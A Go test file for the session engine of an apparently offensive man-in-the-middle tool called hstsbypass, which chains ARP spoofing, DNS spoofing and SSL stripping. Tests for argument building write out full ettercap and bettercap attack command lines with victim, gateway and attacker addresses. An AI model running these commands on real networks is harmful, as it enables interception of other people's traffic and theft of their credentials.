package engine

import (
	"context"
	"errors"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"sync"
	"testing"
	"time"

	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/vulnverified/hstsbypass/internal/netcfg"
	"github.com/vulnverified/hstsbypass/internal/supervisor"
	"github.com/vulnverified/hstsbypass/internal/target"
	"github.com/vulnverified/hstsbypass/pkg/ports"
)

// Mock implementations for testing.

type mockNet struct {
	mu         sync.Mutex
	calls      []string
	onSnapshot func()
	restoreErr error
	forwarding bool
	redirects  int
	restored   bool
}

func (m *mockNet) record(call string) {
	m.mu.Lock()
	m.calls = append(m.calls, call)
	m.mu.Unlock()
}

func (m *mockNet) Calls() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]string(nil), m.calls...)
}

func (m *mockNet) Snapshot(ctx context.Context) (*netcfg.NetworkConfig, error) {
	m.record("snapshot")
	if m.onSnapshot != nil {
		m.onSnapshot()
	}
	return &netcfg.NetworkConfig{ID: "snap", Chain: "HSTSB_1", ForwardingBefore: "0"}, nil
}

func (m *mockNet) EnableIPForwarding(ctx context.Context, cfg *netcfg.NetworkConfig) error {
	m.record("forward")
	m.mu.Lock()
	m.forwarding = true
	m.mu.Unlock()
	return nil
}

func (m *mockNet) ApplyRedirectRules(ctx context.Context, cfg *netcfg.NetworkConfig, iface string, redirects []ports.Redirect) error {
	m.record("redirect")
	m.mu.Lock()
	m.redirects += len(redirects)
	m.mu.Unlock()
	return nil
}

func (m *mockNet) Restore(ctx context.Context, cfg *netcfg.NetworkConfig) error {
	m.record("restore")
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.restoreErr != nil {
		return m.restoreErr
	}
	m.forwarding = false
	m.redirects = 0
	m.restored = true
	return nil
}

func (m *mockNet) Verify(ctx context.Context, cfg *netcfg.NetworkConfig) error {
	m.record("verify")
	return nil
}

type okChecker struct{}

func (okChecker) Check(Config) error { return nil }

type recordingProgress struct {
	mu     sync.Mutex
	stages []string
}

func (p *recordingProgress) Stage(num, total int, msg string) {
	p.mu.Lock()
	p.stages = append(p.stages, msg)
	p.mu.Unlock()
}
func (p *recordingProgress) Detail(msg string) {}
func (p *recordingProgress) Warn(msg string)   {}

func quietLog() *logrus.Entry {
	l := logrus.New()
	l.SetLevel(logrus.PanicLevel)
	return logrus.NewEntry(l)
}

func skipWindows(t *testing.T) {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("shell scripts required")
	}
}

func script(t *testing.T, name, body string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	require.NoError(t, os.WriteFile(path, []byte("#!/bin/sh\n"+body+"\n"), 0o755))
	return path
}

func testConfig(t *testing.T) Config {
	t.Helper()
	tg, err := target.Parse("example.com")
	require.NoError(t, err)
	return Config{
		Target:         tg,
		Interface:      "eth0",
		Gateway:        net.ParseIP("192.168.1.1"),
		Victims:        []net.IP{net.ParseIP("192.168.1.50")},
		AttackerIP:     net.ParseIP("192.168.1.10"),
		Mode:           Mode{ARP: true, DNS: true, Intercept: InterceptSSLStrip},
		HealthInterval: 100 * time.Millisecond,
		StartupWait:    50 * time.Millisecond,
		GracePeriod:    500 * time.Millisecond,
		WorkDir:        t.TempDir(),
	}
}

// bareConfig runs no tools at all.
func bareConfig(t *testing.T) Config {
	cfg := testConfig(t)
	cfg.Mode = Mode{Intercept: InterceptNone}
	return cfg
}

func TestSession_PreconditionFailureTouchesNothing(t *testing.T) {
	mn := &mockNet{}
	checks := SystemChecks{
		GOOS:           "darwin",
		Euid:           func() int { return 0 },
		LookPath:       func(string) (string, error) { return "/usr/bin/x", nil },
		InterfaceAddrs: func(string) ([]net.Addr, error) { return nil, nil },
	}
	sess := NewSession(testConfig(t), Deps{Net: mn, Supervisor: supervisor.New(supervisor.WithLogger(quietLog())), Checker: checks, Log: quietLog()})

	err := sess.Start(context.Background())
	require.Error(t, err)
	assert.ErrorIs(t, err, ErrPreconditionFailed)
	assert.Empty(t, mn.Calls(), "no network call may happen before preconditions pass")
	assert.Equal(t, StateClosed, sess.State())
	assert.Empty(t, sess.Handles())

	// The active slot was released.
	next := NewSession(bareConfig(t), Deps{Net: &mockNet{}, Supervisor: supervisor.New(), Checker: okChecker{}, Log: quietLog()})
	require.NoError(t, next.Start(context.Background()))
	require.NoError(t, next.Close(context.Background()))
}

func TestSystemChecks_CollectsAllReasons(t *testing.T) {
	checks := SystemChecks{
		GOOS: "linux",
		Euid: func() int { return 1000 },
		LookPath: func(file string) (string, error) {
			if file == "dnsspoof" {
				return "", errors.New("not found")
			}
			return "/usr/sbin/" + file, nil
		},
		InterfaceAddrs: func(string) ([]net.Addr, error) {
			_, n, _ := net.ParseCIDR("192.168.1.5/24")
			return []net.Addr{n}, nil
		},
	}

	cfg := testConfig(t)
	cfg.Gateway = net.ParseIP("10.0.0.1")

	err := checks.Check(cfg)
	var perr *PreconditionError
	require.ErrorAs(t, err, &perr)
	assert.Len(t, perr.Reasons, 3)

	cfg.Gateway = net.ParseIP("192.168.1.1")
	checks.Euid = func() int { return 0 }
	checks.LookPath = func(file string) (string, error) { return "/usr/sbin/" + file, nil }
	assert.NoError(t, checks.Check(cfg))
}

func TestConfig_Validate(t *testing.T) {
	cfg := testConfig(t)
	cfg.Victims = nil
	cfg.AttackerIP = nil
	cfg.applyDefaults()

	err := cfg.Validate()
	var perr *PreconditionError
	require.ErrorAs(t, err, &perr)
	assert.Len(t, perr.Reasons, 2)

	cfg.AllTargets = true
	cfg.Mode.DNS = false
	assert.NoError(t, cfg.Validate())
}

func TestSession_CancelDuringConfiguring(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	mn := &mockNet{onSnapshot: cancel}
	sess := NewSession(testConfig(t), Deps{Net: mn, Supervisor: supervisor.New(supervisor.WithLogger(quietLog())), Checker: okChecker{}, Log: quietLog()})

	err := sess.Start(ctx)
	require.ErrorIs(t, err, context.Canceled)

	assert.Equal(t, []string{"snapshot", "restore", "verify"}, mn.Calls())
	assert.False(t, mn.forwarding, "forwarding must not be enabled after cancellation")
	assert.Empty(t, sess.Handles())
	assert.Equal(t, StateClosed, sess.State())
}

func TestSession_ToolDeathTearsDown(t *testing.T) {
	skipWindows(t)

	cfg := testConfig(t)
	sleeper := script(t, "tool", "exec sleep 30")
	cfg.Tools = Tools{ARPSpoof: sleeper, DNSSpoof: sleeper, SSLStrip: sleeper}

	mn := &mockNet{}
	progress := &recordingProgress{}
	sess := NewSession(cfg, Deps{
		Net:        mn,
		Supervisor: supervisor.New(supervisor.WithLogger(quietLog())),
		Checker:    okChecker{},
		Progress:   progress,
		Log:        quietLog(),
	})

	ctx := context.Background()
	require.NoError(t, sess.Start(ctx))
	assert.Equal(t, StateRunning, sess.State())
	assert.Equal(t, 1, mn.redirects)

	handles := sess.Handles()
	require.Len(t, handles, 3)
	assert.FileExists(t, filepath.Join(cfg.WorkDir, dnsHostsFile))

	proc, err := os.FindProcess(handles[2].PID)
	require.NoError(t, err)
	start := time.Now()
	require.NoError(t, proc.Kill())

	done := make(chan error, 1)
	go func() { done <- sess.Wait(ctx) }()

	select {
	case err := <-done:
		assert.ErrorIs(t, err, ErrToolFailure)
	case <-time.After(5 * time.Second):
		t.Fatal("session did not tear down after tool death")
	}
	assert.Less(t, time.Since(start), 2*time.Second)

	for _, h := range handles {
		assert.False(t, h.Alive(), "%s outlived its session", h)
	}
	assert.Equal(t, StateClosed, sess.State())
	assert.True(t, mn.restored)
	assert.NoFileExists(t, filepath.Join(cfg.WorkDir, dnsHostsFile))

	results := sess.Results()
	require.Len(t, results, 3)
	assert.Equal(t, "arp_spoof:192.168.1.50", results[0].Method)
	assert.True(t, results[0].Success)
	assert.Equal(t, "sslstrip", results[2].Method)
	assert.False(t, results[2].Success)
	assert.Len(t, progress.stages, totalStages)
}

func TestSession_LaunchFailureRestores(t *testing.T) {
	skipWindows(t)

	cfg := testConfig(t)
	cfg.Mode.DNS = false
	cfg.StartupWait = 500 * time.Millisecond
	cfg.Tools = Tools{
		ARPSpoof: script(t, "arpspoof", "exec sleep 30"),
		SSLStrip: script(t, "sslstrip", "echo 'address already in use' >&2\nexit 2"),
	}

	mn := &mockNet{}
	sess := NewSession(cfg, Deps{Net: mn, Supervisor: supervisor.New(supervisor.WithLogger(quietLog())), Checker: okChecker{}, Log: quietLog()})

	err := sess.Start(context.Background())
	require.Error(t, err)
	assert.ErrorIs(t, err, ErrToolFailure)

	var tf *supervisor.ToolFailureError
	require.ErrorAs(t, err, &tf)
	assert.Equal(t, "sslstrip", tf.Tool)
	assert.Contains(t, tf.Stderr, "address already in use")

	handles := sess.Handles()
	require.Len(t, handles, 1)
	assert.False(t, handles[0].Alive())
	assert.True(t, mn.restored)
	assert.Equal(t, StateClosed, sess.State())

	results := sess.Results()
	require.Len(t, results, 2)
	assert.False(t, results[1].Success)
}

func TestSession_ResultPerTechnique(t *testing.T) {
	cfg := testConfig(t)
	cfg.Tools.ARPSpoof = "/nonexistent/arpspoof"

	sess := NewSession(cfg, Deps{Net: &mockNet{}, Supervisor: supervisor.New(supervisor.WithLogger(quietLog())), Checker: okChecker{}, Log: quietLog()})
	require.Error(t, sess.Start(context.Background()))

	results := sess.Results()
	require.Len(t, results, 3)
	assert.Equal(t, "arp_spoof:192.168.1.50", results[0].Method)
	assert.False(t, results[0].Success)
	assert.NotEqual(t, "not launched", results[0].Message)
	for _, r := range results[1:] {
		assert.False(t, r.Success)
		assert.Equal(t, "not launched", r.Message, r.Method)
	}
	assert.Equal(t, "dns_spoof", results[1].Method)
	assert.Equal(t, "sslstrip", results[2].Method)
}

func TestSession_HostsFileFailureReported(t *testing.T) {
	cfg := testConfig(t)
	require.NoError(t, os.Mkdir(filepath.Join(cfg.WorkDir, dnsHostsFile), 0o700))

	sess := NewSession(cfg, Deps{Net: &mockNet{}, Supervisor: supervisor.New(supervisor.WithLogger(quietLog())), Checker: okChecker{}, Log: quietLog()})
	require.Error(t, sess.Start(context.Background()))
	assert.Empty(t, sess.Handles())

	results := sess.Results()
	require.Len(t, results, 3)
	assert.Equal(t, "not launched", results[0].Message)
	assert.Equal(t, "dns_spoof", results[1].Method)
	assert.Contains(t, results[1].Message, "write dnsspoof hosts")
	assert.Equal(t, "not launched", results[2].Message)
}

func TestSession_ARPToolCommandLines(t *testing.T) {
	tests := []struct {
		name   string
		tool   ARPTool
		all    bool
		method string
		args   []string
	}{
		{"arpspoof all", ARPToolArpspoof, true, "arp_spoof:all", []string{"-i", "eth0", "192.168.1.1"}},
		{"ettercap victims", ARPToolEttercap, false, "arp_spoof:192.168.1.50,192.168.1.51",
			[]string{"-T", "-q", "-i", "eth0", "-M", "arp:remote", "/192.168.1.1//", "/192.168.1.50;192.168.1.51//"}},
		{"ettercap all", ARPToolEttercap, true, "arp_spoof:all",
			[]string{"-T", "-q", "-i", "eth0", "-M", "arp:remote", "/192.168.1.1//", "///"}},
		{"bettercap victims", ARPToolBettercap, false, "arp_spoof:192.168.1.50,192.168.1.51",
			[]string{"-iface", "eth0", "-no-colors", "-eval", "set arp.spoof.targets 192.168.1.50,192.168.1.51; arp.spoof on"}},
		{"bettercap all", ARPToolBettercap, true, "arp_spoof:all",
			[]string{"-iface", "eth0", "-no-colors", "-eval", "arp.spoof on"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := testConfig(t)
			cfg.Interface = "eth0"
			cfg.Victims = append(cfg.Victims, net.ParseIP("192.168.1.51"))
			cfg.AllTargets = tt.all
			cfg.Mode.ARPTool = tt.tool

			steps := NewSession(cfg, Deps{}).arpSteps()
			require.Len(t, steps, 1)
			assert.Equal(t, tt.method, steps[0].method)
			assert.Equal(t, string(tt.tool), steps[0].spec.Name)
			assert.Equal(t, tt.args, steps[0].spec.Args)
		})
	}
}

func TestSession_BettercapDNSStep(t *testing.T) {
	cfg := testConfig(t)
	cfg.Interface = "eth0"
	cfg.Mode.DNSTool = DNSToolBettercap

	sess := NewSession(cfg, Deps{})
	step, err := sess.dnsStep()
	require.NoError(t, err)
	assert.Equal(t, "dns_spoof", step.method)
	assert.Equal(t, "bettercap", step.spec.Path)
	assert.Equal(t, []string{"-iface", "eth0", "-no-colors", "-eval",
		"set dns.spoof.domains example.com,*.example.com; set dns.spoof.address 192.168.1.10; dns.spoof on"}, step.spec.Args)
	assert.NoFileExists(t, filepath.Join(cfg.WorkDir, dnsHostsFile))
	cfg.applyDefaults()
	assert.Equal(t, []string{"arpspoof", "bettercap", "sslstrip"}, cfg.requiredTools())
}

func TestSession_AlreadyActive(t *testing.T) {
	first := NewSession(bareConfig(t), Deps{Net: &mockNet{}, Supervisor: supervisor.New(), Checker: okChecker{}, Log: quietLog()})
	require.NoError(t, first.Start(context.Background()))

	mn := &mockNet{}
	second := NewSession(bareConfig(t), Deps{Net: mn, Supervisor: supervisor.New(), Checker: okChecker{}, Log: quietLog()})
	assert.ErrorIs(t, second.Start(context.Background()), ErrSessionAlreadyActive)
	assert.Empty(t, mn.Calls())

	require.NoError(t, first.Close(context.Background()))
	require.NoError(t, second.Start(context.Background()))
	require.NoError(t, second.Close(context.Background()))
}

func TestSession_RestoreFailureKeepsTearingDown(t *testing.T) {
	mn := &mockNet{}
	sess := NewSession(bareConfig(t), Deps{Net: mn, Supervisor: supervisor.New(), Checker: okChecker{}, Log: quietLog()})
	require.NoError(t, sess.Start(context.Background()))

	mn.mu.Lock()
	mn.restoreErr = &netcfg.RestoreError{Residual: []string{"nat chain HSTSB_1"}, Err: errors.New("busy")}
	mn.mu.Unlock()

	err := sess.Close(context.Background())
	require.Error(t, err)
	assert.ErrorIs(t, err, netcfg.ErrRestoreFailed)
	assert.Equal(t, StateTearingDown, sess.State())

	mn.mu.Lock()
	mn.restoreErr = nil
	mn.mu.Unlock()

	require.NoError(t, sess.Close(context.Background()))
	assert.Equal(t, StateClosed, sess.State())

	// Closed is terminal and Close stays a no-op.
	calls := len(mn.Calls())
	require.NoError(t, sess.Close(context.Background()))
	assert.Equal(t, calls, len(mn.Calls()))
}

func TestSession_StopAndInterrupt(t *testing.T) {
	mn := &mockNet{}
	sess := NewSession(bareConfig(t), Deps{Net: mn, Supervisor: supervisor.New(), Checker: okChecker{}, Log: quietLog()})
	require.NoError(t, sess.Start(context.Background()))

	sess.Stop()
	sess.Stop()
	require.NoError(t, sess.Wait(context.Background()))
	assert.Equal(t, StateClosed, sess.State())
	assert.True(t, mn.restored)

	mn2 := &mockNet{}
	sess2 := NewSession(bareConfig(t), Deps{Net: mn2, Supervisor: supervisor.New(), Checker: okChecker{}, Log: quietLog()})
	ctx, cancel := context.WithTimeout(context.Background(), 150*time.Millisecond)
	defer cancel()
	require.NoError(t, sess2.Run(ctx))
	assert.Equal(t, StateClosed, sess2.State())
	assert.True(t, mn2.restored)
}

func TestSession_ClosedImpliesRestored(t *testing.T) {
	skipWindows(t)

	for _, kill := range []bool{false, true} {
		cfg := testConfig(t)
		sleeper := script(t, "tool", "exec sleep 30")
		cfg.Tools = Tools{ARPSpoof: sleeper, DNSSpoof: sleeper, SSLStrip: sleeper}

		mn := &mockNet{}
		sess := NewSession(cfg, Deps{Net: mn, Supervisor: supervisor.New(supervisor.WithLogger(quietLog())), Checker: okChecker{}, Log: quietLog()})
		require.NoError(t, sess.Start(context.Background()))

		if kill {
			p, err := os.FindProcess(sess.Handles()[0].PID)
			require.NoError(t, err)
			require.NoError(t, p.Kill())
			_ = sess.Wait(context.Background())
		} else {
			require.NoError(t, sess.Close(context.Background()))
		}

		assert.Equal(t, StateClosed, sess.State())
		assert.True(t, mn.restored)
		for _, h := range sess.Handles() {
			assert.False(t, h.Alive())
		}
	}
}

func TestDNSHosts(t *testing.T) {
	got := string(dnsHosts("example.com", net.ParseIP("10.0.0.5")))
	assert.Equal(t, "10.0.0.5\texample.com\n10.0.0.5\t*.example.com\n", got)
}

func TestParseIntercept(t *testing.T) {
	got, err := ParseIntercept("")
	require.NoError(t, err)
	assert.Equal(t, InterceptNone, got)

	got, err = ParseIntercept("mitmproxy")
	require.NoError(t, err)
	assert.Equal(t, InterceptMITMProxy, got)

	_, err = ParseIntercept("bettercap")
	assert.Error(t, err)
}

func TestParseSpoofTools(t *testing.T) {
	arp, err := ParseARPTool("")
	require.NoError(t, err)
	assert.Equal(t, ARPToolArpspoof, arp)

	arp, err = ParseARPTool("ettercap")
	require.NoError(t, err)
	assert.Equal(t, ARPToolEttercap, arp)

	dns, err := ParseDNSTool("bettercap")
	require.NoError(t, err)
	assert.Equal(t, DNSToolBettercap, dns)

	_, err = ParseDNSTool("ettercap")
	assert.Error(t, err)

	cfg := testConfig(t)
	cfg.applyDefaults()
	cfg.Mode.ARPTool = "nmap"
	var perr *PreconditionError
	require.ErrorAs(t, cfg.Validate(), &perr)
	assert.Contains(t, perr.Reasons[0], "unknown arp tool")
}

func TestConfig_Redirects(t *testing.T) {
	cfg := Config{Mode: Mode{Intercept: InterceptSSLStrip}, SSLStripPort: 10000}
	assert.Equal(t, ports.SSLStrip(10000), cfg.redirects())

	cfg.Redirects = []ports.Redirect{{Proto: "tcp", From: 8080, To: 10000}}
	assert.Equal(t, cfg.Redirects, cfg.redirects())

	cfg.Mode.Intercept = InterceptNone
	assert.Empty(t, cfg.redirects(), "no interception means no redirects")
}
